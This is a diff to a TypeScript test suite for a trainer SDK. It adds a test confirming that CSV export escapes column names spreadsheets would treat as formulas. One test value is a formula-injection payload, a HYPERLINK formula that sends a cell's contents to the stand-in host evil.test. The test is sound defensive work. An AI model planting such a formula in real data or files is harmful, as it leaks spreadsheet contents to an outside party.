@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { type FitOptions, OPTIMIZERS, type Source, Trainer } from '@gd-trainer/sdk';
+import { parseCsv } from '@gd-trainer/sdk/csv';
 import { toCode, toCsv, toWorksheet } from '@gd-trainer/sdk/export';
 import { randomNumbers } from '@gd-trainer/testing/random-numbers';
 import { transformSync } from 'esbuild';
@@ -177,6 +178,16 @@ describe('a run as CSV', () => {
     }
     expect(body.at(-1)![0]).toBe(500);
   });
+
+  it.each(['=HYPERLINK("http://evil.test?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1'])(
+    'has no name that a spreadsheet would run: %j',
+    (name) => {
+      const trainer = new Trainer({ [name]: [1, 2, 4], y: [1, 2, 3] }, { target: 'y' });
+      const { names, columns } = parseCsv(toCsv(trainer));
+      expect(names).toEqual(['epoch', 'loss', `'${name}`, 'bias']);
+      expect(columns.bias![0]).toBe(0);
+    },
+  );
 
   it('leaves the session where it is', () => {
     const trainer = new Trainer(columns, { target: 'y', batchSize: 6 });
